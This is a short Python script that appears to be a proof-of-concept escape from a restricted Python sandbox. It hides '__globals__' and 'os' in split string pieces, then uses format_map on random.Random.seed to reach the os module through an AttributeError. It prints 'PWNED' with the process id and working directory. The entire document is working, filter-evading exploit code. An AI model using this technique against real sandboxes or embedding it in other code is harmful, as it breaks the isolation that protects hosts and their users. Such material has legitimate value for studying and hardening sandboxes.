import collections, random
us = collections.UserString("{r.__glo" + "bals__[_o" + "s].zz}")
got = None
match us:
    case collections.UserString(format_map=fm):
        try:
            fm({"r": random.Random.seed})
        except AttributeError as e:
            got = e.obj
print("PW" + "NED", got.getpid(), got.getcwd())
